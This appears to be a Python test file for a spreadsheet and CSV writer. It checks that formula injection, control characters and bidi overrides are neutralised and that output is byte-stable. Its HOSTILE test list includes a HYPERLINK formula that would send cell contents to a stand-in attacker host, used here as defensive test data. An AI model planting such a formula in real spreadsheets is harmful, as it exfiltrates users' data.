"""Table files (coopnet.spreadsheet): formula-free workbooks, spreadsheet-safe or exact CSV."""

from __future__ import annotations

import warnings
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from coopnet.errors import DataWarning
from coopnet.spreadsheet import EXCEL_MAX_CHARS, write_csv, write_sheets
from tests.xlsx_reference import openpyxl_write_sheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "#N/A",
    "=A1",
    "Amt\u202eA",
    "Zeile\x0bzwei\x00",
]


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)  # not data_only: formulas would show as type "f"
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_workbook_cells_are_never_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": HOSTILE, "=B2": range(len(HOSTILE))})
    path = write_sheets(tmp_path / "t.xlsx", {"t": frame}, exact=False)
    cells = _cells(path)
    assert all(c.data_type != "f" and c.data_type != "e" for c in cells)
    values = [c.value for c in cells]
    assert "=B2" in values and "=A1" in values and "#N/A" in values  # kept as text
    assert "AmtA" in values and "Zeile zwei\ufffd" in values  # cleaned for reading


def test_exact_workbook_keeps_text_and_warns_about_what_it_cannot_hold(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": [*HOSTILE, "x" * (EXCEL_MAX_CHARS + 5)]})
    with pytest.warns(DataWarning) as caught:
        path = write_sheets(tmp_path / "t.xlsx", {"t": frame}, exact=True)
    messages = " ".join(str(w.message) for w in caught)
    assert "control characters" in messages and "cut" in messages
    values = [c.value for c in _cells(path)][1:]
    assert values[:-2] == HOSTILE[:-1]  # bidi controls are data here: kept
    assert values[-2] == "Zeile\ufffdzwei\ufffd"
    assert len(values[-1]) == EXCEL_MAX_CHARS


def test_the_warning_counts_cells_not_distinct_texts(tmp_path: Path) -> None:
    # a text column is cleaned once per distinct text; the warning still counts every cell
    frame = pd.DataFrame({"a": ["x\x01", "ok", "x\x01", "x\x01"], "b": ["x\x01", None, "y", 2]})
    with pytest.warns(DataWarning, match=r"t\.xlsx: 4 text\(s\) held characters"):
        path = write_sheets(tmp_path / "t.xlsx", {"t": frame}, exact=True)
    assert [c.value for c in _cells(path)][2:6] == ["x\ufffd", "x\ufffd", "ok", None]


def test_workbook_values_numbers_and_missing(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1.5, np.nan, np.inf], "b": [1, 2, 3], "c": ["x", None, True]})
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        path = write_sheets(tmp_path / "t.xlsx", {"t": frame}, exact=True, freeze_header=True)
    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert rows == [("a", "b", "c"), (1.5, 1, "x"), (None, 2, None), (None, 3, True)]


def test_same_tables_same_bytes(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": ["x", "y"]})
    one = write_sheets(tmp_path / "1.xlsx", {"t": frame}, exact=False).read_bytes()
    two = write_sheets(tmp_path / "2.xlsx", {"t": frame}, exact=False).read_bytes()
    assert one == two
    with zipfile.ZipFile(tmp_path / "1.xlsx") as archive:
        assert b"<dc:creator>coopnet</dc:creator>" in archive.read("docProps/core.xml")


def test_spreadsheet_csv_neutralises_formulas_but_not_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": HOSTILE, "value": np.linspace(-1, 1, len(HOSTILE))})
    frame.columns = ["=label", "value"]
    text = write_csv(frame, tmp_path / "t.csv", spreadsheet=True).read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0] == "'=label,value"
    read = pd.read_csv(tmp_path / "t.csv", keep_default_na=False)
    for cell in read["'=label"]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read["value"].iloc[0] == -1.0  # numbers stay numbers
    assert "\u202e" not in text


def test_exact_csv_round_trips(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": HOSTILE})
    write_csv(frame, tmp_path / "t.csv", spreadsheet=False)
    # the python engine: pandas < 3's C parser drops a trailing NUL when reading (the file has it)
    read = pd.read_csv(tmp_path / "t.csv", keep_default_na=False, dtype=str, engine="python")
    assert read["label"].tolist() == HOSTILE


# --- the row writer gives the bytes openpyxl's cell-by-cell writer gave -----------------------
_TEXTS = st.one_of(
    st.text(max_size=12),
    st.sampled_from([*HOSTILE, "", " ", " lead", "trail ", "a&b<c>d", "Ümläut ß", "x\ry", "😀"]),
)
_CELLS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**60), 2**60),
    st.floats(allow_nan=True, allow_infinity=True),
    _TEXTS,
)


@st.composite
def _frames(draw: st.DrawFn) -> pd.DataFrame:
    n = draw(st.integers(0, 6))
    columns: dict[str, object] = {}
    for c in range(draw(st.integers(0, 4))):
        kind = draw(st.sampled_from(["float", "int", "bool", "text", "mixed"]))
        if kind == "float":
            values = draw(st.lists(st.floats(), min_size=n, max_size=n))
            columns[f"f{c}"] = pd.Series(values, dtype=float)
        elif kind == "int":
            ints = st.integers(-99, 99) | st.integers(-(2**63), 2**63 - 1)  # past 10**16 too
            columns[f"i{c}"] = pd.Series(draw(st.lists(ints, min_size=n, max_size=n)),
                                         dtype="int64")  # fmt: skip
        elif kind == "bool":
            columns[f"b{c}"] = pd.Series(draw(st.lists(st.booleans(), min_size=n, max_size=n)),
                                         dtype=bool)  # fmt: skip
        else:
            # texts: a few distinct ones, repeated (each is cleaned once for all its cells)
            pool = draw(st.lists(_TEXTS, min_size=1, max_size=3))
            cells = st.sampled_from(pool) if kind == "text" else _CELLS
            columns[draw(_TEXTS) + f"~{c}"] = pd.Series(
                draw(st.lists(cells, min_size=n, max_size=n)), dtype=object
            )
    return pd.DataFrame(columns, index=range(n))


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(frames=st.lists(_frames(), max_size=3), exact=st.booleans(), freeze=st.booleans())
def test_workbook_bytes_equal_openpyxl_cell_by_cell(
    tmp_path: Path, frames: list[pd.DataFrame], exact: bool, freeze: bool
) -> None:
    sheets = {f"s{i}": frame for i, frame in enumerate(frames)}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DataWarning)
        new = write_sheets(tmp_path / "new.xlsx", sheets, exact=exact, freeze_header=freeze)
    old = openpyxl_write_sheets(tmp_path / "old.xlsx", sheets, exact=exact, freeze_header=freeze)
    assert new.read_bytes() == old.read_bytes()


def test_workbook_of_numpy_and_pandas_values_equals_openpyxl(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "a": [1.5, np.nan, np.inf, -0.0, 1e20, 1 / 3],
            "c": ["x", None, np.int64(3), np.float64(2.5), pd.NA, True],
            "n": pd.array([1, None, 3, 4, 5, 6], dtype="Int64"),
            "t": pd.to_datetime(["2020-01-01"] * 6),
            "k": pd.Categorical(["a", "b", "a", "b", "a", "b"]),
            "e": [None] * 6,
            "w": ["", " ", "  ", " lead", "trail ", "a&b<c>d"],
        }
    )
    for exact in (False, True):
        new = write_sheets(tmp_path / "new.xlsx", {"t": frame, "u": frame.head(0)}, exact=exact)
        old = openpyxl_write_sheets(tmp_path / "old.xlsx", {"t": frame, "u": frame.head(0)},
                                    exact=exact)  # fmt: skip
        assert new.read_bytes() == old.read_bytes()
